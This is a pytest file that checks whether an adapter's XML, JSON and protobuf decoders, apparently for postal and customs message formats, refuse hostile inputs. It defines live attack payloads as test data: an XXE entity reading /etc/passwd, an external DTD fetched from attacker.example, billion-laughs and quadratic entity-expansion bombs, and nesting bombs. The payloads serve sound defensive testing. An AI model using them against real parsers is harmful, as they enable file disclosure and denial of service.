"""Hostile inputs: every one ends in DocumentError with a clear reason, for every decoder."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor

import pytest

from adapters import registry
from adapters.errors import DocumentError
from adapters.xml import parse_json, parse_xml

XML_FORMATS = ["upu.itmatt.v1", "upu.cusrsp.v1", "upu.ips.v1"]
JSON_FORMATS = ["wco.ecommerce.v1", "swg.aed.v1+json", "swg.inspection.v1+json"]

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<itmatt:Itmatt xmlns:itmatt="urn:swg:upu:itmatt:v1"><itmatt:Item><itmatt:Id>&xxe;</itmatt:Id></itmatt:Item></itmatt:Itmatt>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<ips xmlns="http://upu.int/ips"/>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ips xmlns="http://upu.int/ips">&lol4;</ips>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"x" * 50_000 + b'">]><ips xmlns="http://upu.int/ips">'
             + b"&a;" * 1000 + b"</ips>")

PLAIN_DOCTYPE = b'<!DOCTYPE ips><ips xmlns="http://upu.int/ips"/>'
LOWER_DOCTYPE = b'<!doctype ips><ips xmlns="http://upu.int/ips"/>'


def deep_xml(levels: int) -> bytes:
    return b'<ips xmlns="http://upu.int/ips">' + b"<a>" * levels + b"</a>" * levels + b"</ips>"


def deep_json(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


HOSTILE_XML = {
    "xxe": (XXE, "DOCTYPE"),
    "external dtd": (XXE_NETWORK, "DOCTYPE"),
    "billion laughs": (LAUGHS, "DOCTYPE"),
    "quadratic blow-up": (QUADRATIC, "DOCTYPE"),
    "doctype": (PLAIN_DOCTYPE, "DOCTYPE"),
    "doctype lower case": (LOWER_DOCTYPE, "DOCTYPE"),
    "deep nesting": (deep_xml(100), "deeper"),
    "very deep nesting": (deep_xml(100_000), ""),
    "invalid utf-8": ('<ips xmlns="http://upu.int/ips" ExportRef="é"/>'.encode("latin-1"), "UTF-8"),
    "nul byte": (b'<ips xmlns="http://upu.int/ips">\x00</ips>', "NUL"),
    "oversized": (b'<ips xmlns="http://upu.int/ips">' + b" " * (4 * 1024 * 1024) + b"</ips>", "limit"),
    "utf-16 declared": ('<?xml version="1.0" encoding="UTF-16"?><ips/>'.encode("utf-16"), ""),
    "latin-1 declared": (b'<?xml version="1.0" encoding="ISO-8859-1"?><ips xmlns="http://upu.int/ips"/>', "UTF-8"),
    "not xml": (b"hello", "well-formed"),
    "empty": (b"", "empty"),
    "unclosed": (b'<ips xmlns="http://upu.int/ips">', "well-formed"),
}


@pytest.mark.parametrize("fmt", XML_FORMATS)
@pytest.mark.parametrize("case", list(HOSTILE_XML))
def test_hostile_xml_refused(fmt: str, case: str) -> None:
    content, reason = HOSTILE_XML[case]
    with pytest.raises(DocumentError) as info:
        registry.decode(fmt, content)
    assert reason in str(info.value)
    assert info.value.violations and all(v.reason for v in info.value.violations)


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(DocumentError) as info:
        parse_xml(XXE)
    assert "root:" not in str(info.value)


def test_entity_declaration_refused_even_without_doctype_keyword_case() -> None:
    with pytest.raises(DocumentError):
        parse_xml(b'<!DoCtYpE x [<!ENTITY a "b">]><x>&a;</x>')


def test_undeclared_entity_is_not_well_formed() -> None:
    with pytest.raises(DocumentError, match="well-formed"):
        parse_xml(b"<x>&a;</x>")


def test_limits_are_parameters() -> None:
    doc = b"<a><b><c/></b></a>"
    assert parse_xml(doc, max_depth=3) is not None
    with pytest.raises(DocumentError, match="deeper"):
        parse_xml(doc, max_depth=2)
    with pytest.raises(DocumentError, match="limit of 10 bytes"):
        parse_xml(doc, max_bytes=10)


def test_depth_limit_counts_comments_and_allows_exactly_the_limit() -> None:
    at_limit = b"<a>" * 32 + b"</a>" * 32
    assert parse_xml(at_limit) is not None
    with pytest.raises(DocumentError, match="deeper than the limit of 32 levels"):
        parse_xml(b"<a>" * 32 + b"<!-- one level too deep -->" + b"</a>" * 32)
    with pytest.raises(DocumentError, match="deeper than the limit of 32 levels"):
        parse_xml(b"<a>" * 20 + b"<b/>" + b"<a>" * 13 + b"</a>" * 33)


@pytest.mark.parametrize("limit", [1, 5, 200, 256, 257, 1_000_000])
def test_any_depth_limit_is_enforced_exactly(limit: int) -> None:
    """Limits beyond what libxml2 parses (256 levels) are accepted as parameters, not an error."""
    levels = min(limit, 200)
    doc = b"<a>" * levels + b"</a>" * levels
    assert parse_xml(doc, max_depth=limit) is not None
    with pytest.raises(DocumentError, match=f"deeper than the limit of {levels - 1} levels"):
        parse_xml(doc, max_depth=levels - 1)


def test_a_refused_document_does_not_affect_the_next_parse() -> None:
    """The hardened parser is reused per thread: a failed parse must leave nothing behind."""
    for bad in (b"<x>&a;</x>", b"<x><y></x>", b"<a>" * 40 + b"</a>" * 40):
        with pytest.raises(DocumentError):
            parse_xml(bad)
        assert parse_xml(b"<x><y>ok</y></x>").findtext("y") == "ok"


def test_parsing_in_other_threads_is_just_as_strict() -> None:
    with ThreadPoolExecutor(4) as pool:
        outcomes = list(pool.map(_outcome, [XXE, deep_xml(40), b"<x><y>ok</y></x>"] * 4))
    assert outcomes == [("error", "DOCTYPE"), ("error", "deeper"), ("ok", "ok")] * 4


def _outcome(content: bytes) -> tuple[str, str]:
    try:
        return "ok", parse_xml(content).findtext("y") or ""
    except DocumentError as exc:
        return "error", "DOCTYPE" if "DOCTYPE" in str(exc) else "deeper" if "deeper" in str(exc) else str(exc)


HOSTILE_JSON = {
    "deep nesting": (deep_json(1000), "deeper"),
    "very deep nesting": (deep_json(200_000), "deeper"),
    "invalid utf-8": (b'{"Items": ["\xff"]}', "UTF-8"),
    "nul byte": (b'{"Items": []}\x00', "NUL"),
    "oversized": (b'{"Items": [' + b"0," * (2 * 1024 * 1024 + 1) + b"0]}", "limit"),
    "not json": (b"{nope", ""),
    "empty": (b"   ", "empty"),
}


@pytest.mark.parametrize("fmt", JSON_FORMATS)
@pytest.mark.parametrize("case", list(HOSTILE_JSON))
def test_hostile_json_refused(fmt: str, case: str) -> None:
    content, reason = HOSTILE_JSON[case]
    with pytest.raises(DocumentError) as info:
        registry.decode(fmt, content)
    assert reason in str(info.value)


def test_json_depth_ignores_brackets_in_strings() -> None:
    assert parse_json(b'{"a": "' + b"[" * 1000 + b'"}') == {"a": "[" * 1000}


def test_json_nan_refused() -> None:
    with pytest.raises(DocumentError):
        parse_json(b'{"a": NaN}')


@pytest.mark.parametrize("fmt", ["swg.aed.v1", "swg.inspection.v1"])
def test_protobuf_oversized_and_garbage(fmt: str) -> None:
    with pytest.raises(DocumentError, match="limit"):
        registry.decode(fmt, b"\x0a" * (4 * 1024 * 1024 + 1))
    with pytest.raises(DocumentError):
        registry.decode(fmt, b"\xff\xff\xff\xff")


def test_unpaired_surrogate_escape_in_a_json_key_is_a_document_error() -> None:
    from adapters import registry
    from adapters.errors import DocumentError

    with pytest.raises(DocumentError) as err:
        registry.decode("swg.aed.v1+json", b'{"items": [{"\\ud800itemId": "RR123456785DE"}]}')
    assert "surrogate" in str(err.value)


def test_json_with_a_duplicate_key_is_refused_at_any_depth() -> None:
    # Which of two equal keys wins differs between parsers: the gateway and the recipient could read two values.
    for doc in (b'{"a": 1, "a": 2}', b'{"items": [{"id": "RR123456785DE", "id": "CP000000014CN"}]}'):
        with pytest.raises(DocumentError, match="duplicate key"):
            parse_json(doc)


@pytest.mark.parametrize("fmt", JSON_FORMATS)
def test_every_json_format_refuses_duplicate_keys(fmt: str) -> None:
    with pytest.raises(DocumentError, match="duplicate key"):
        registry.decode(fmt, b'{"x": 1, "x": 1}')
